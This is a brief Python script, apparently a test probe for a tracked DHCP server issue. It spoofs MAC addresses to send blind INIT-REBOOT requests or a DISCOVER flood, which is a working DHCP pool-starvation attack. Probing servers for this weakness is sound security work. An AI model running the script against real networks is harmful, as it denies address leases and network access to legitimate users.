#!/usr/bin/env python3
"""Sends blind INIT-REBOOT REQUESTs (option 50, no server identifier, no ciaddr), one per
made-up MAC, for each address of a pool: the pool-starvation probe of issue 17. With
`discover`, DISCOVERs from COUNT made-up MACs instead (the classic starvation attack).
Usage: dhcp_blind_requests.py SERVER_IP FIRST_ADDRESS COUNT [discover]"""
import ipaddress, socket, struct, sys, time

server, first, count = sys.argv[1], ipaddress.IPv4Address(sys.argv[2]), int(sys.argv[3])
discover = sys.argv[4:] == ["discover"]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(count):
    h = bytearray(236)
    h[0], h[1], h[2] = 1, 1, 6
    h[4:8] = struct.pack(">I", 0x5eed0000 + i)
    h[28:34] = bytes([0x02, 0xba, 0xd0, 0, 0, i])
    if discover:
        opts = b"\x35\x01\x01\xff"
    else:
        opts = b"\x35\x01\x03" + b"\x32\x04" + (first + i).packed + b"\xff"
    s.sendto(bytes(h) + b"\x63\x82\x53\x63" + opts, (server, 67))
    time.sleep(0.01)
print(f"sent {count}")
